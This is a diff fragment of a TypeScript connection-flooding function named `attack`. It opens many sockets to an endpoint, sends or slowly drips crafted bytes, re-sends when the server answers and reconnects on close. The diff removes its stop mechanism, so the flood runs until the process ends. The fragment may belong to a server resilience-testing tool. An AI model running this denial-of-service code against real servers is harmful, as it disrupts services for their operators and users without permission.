@@ -75,37 +75,27 @@ export const SHAPES: readonly Shape[] = [
   },
 ];
 
-/** Does so until it is stopped. */
-export function attack({ atOnce, bytes, drip }: Shape, endpoint: string): { stop(): void } {
+/** Does so until its process ends; `begun` is told once every socket has sent something. */
+export function attack({ atOnce, bytes, drip }: Shape, endpoint: string, begun: () => void): void {
   const { hostname, port, host } = new URL(endpoint);
   const text = bytes(host);
-  const sockets = new Set<Socket>();
-  let stopped = false;
+  let silent = atOnce;
   const open = () => {
-    if (stopped) return;
     const socket = connect(Number(port), hostname);
-    sockets.add(socket);
     const send = () => {
-      if (drip) return dripped(socket, text);
-      socket.write(text, 'latin1');
+      if (drip) dripped(socket, text);
+      else socket.write(text, 'latin1');
+      silent -= 1;
+      if (silent === 0) begun();
     };
     socket.on('connect', send).on('error', () => {});
     // An answer is a reason to go on, as a page would.
     socket.on('data', () => {
       if (!drip) setTimeout(() => socket.write(text, 'latin1'), AGAIN_MS);
     });
-    socket.on('close', () => {
-      sockets.delete(socket);
-      setTimeout(open, AGAIN_MS);
-    });
+    socket.on('close', () => setTimeout(open, AGAIN_MS));
   };
   for (let index = 0; index < atOnce; index++) open();
-  return {
-    stop() {
-      stopped = true;
-      for (const socket of sockets) socket.destroy();
-    },
-  };
 }
 
 function dripped(socket: Socket, text: string): void {
